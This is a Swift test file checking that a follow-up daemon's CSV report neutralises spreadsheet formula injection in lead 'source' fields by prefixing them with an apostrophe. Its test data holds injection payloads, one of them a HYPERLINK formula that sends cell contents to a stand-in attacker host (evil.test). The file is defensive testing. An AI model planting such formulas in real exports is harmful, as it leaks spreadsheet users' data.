import Foundation
import FollowUpTestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// `followupctl report --format csv` against the real daemon: a group key an
/// event chose (a lead's `source`) that a spreadsheet would run as a formula
/// starts with `'` instead, so opening the report runs nothing.
@Suite(.serialized) struct SpreadsheetSafeReportTests {
    static let sources = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "web_form"]

    @Test func formulaCellsAreNeutralised() throws {
        let daemon = try DaemonProcess(clockStart: "2026-12-08T15:00:00Z")
        defer { _ = daemon.signal(SIGTERM) }
        #expect(try daemon.post("/v1/events", #"{"type":"rep.upserted","rep":{"id":"alice","team":"sales"}}"#).status == 200)
        for (index, source) in Self.sources.enumerated() {
            let quoted = source.replacingOccurrences(of: "\"", with: "\\\"")
            let lead = #"{"type":"lead.captured","lead":{"id":"L\#(index)","source":"\#(quoted)","email":"a\#(index)@x.test","owner":"alice"}}"#
            let answer = try daemon.post("/v1/events", lead)
            #expect(answer.status == 200, "\(source): \(answer.body)")
        }
        let csv = try ReportingAgainstDaemonTests.ctl(daemon, "report", "--by", "source", "--format", "csv")
        #expect(csv.status == 0, "\(csv.stderr)")
        let keys = csv.stdout.split(separator: "\n").dropFirst().map { line in
            // The key is the first field; it is quoted when it holds a comma or a quote.
            line.hasPrefix("\"") ? String(line.dropFirst().prefix { $0 != "\"" }) : String(line.prefix { $0 != "," })
        }
        for dangerous in ["=", "+", "-", "@"] {
            #expect(!keys.contains { $0.hasPrefix(dangerous) }, "\(dangerous): \(csv.stdout)")
        }
        for source in ["+1+1", "-2+3", "@SUM(A1:A9)", "=HYPERLINK("] {
            #expect(keys.contains { $0.hasPrefix("'" + source) }, "\(source): \(csv.stdout)")
        }
        #expect(keys.contains("web_form"), "\(csv.stdout)")
    }
}
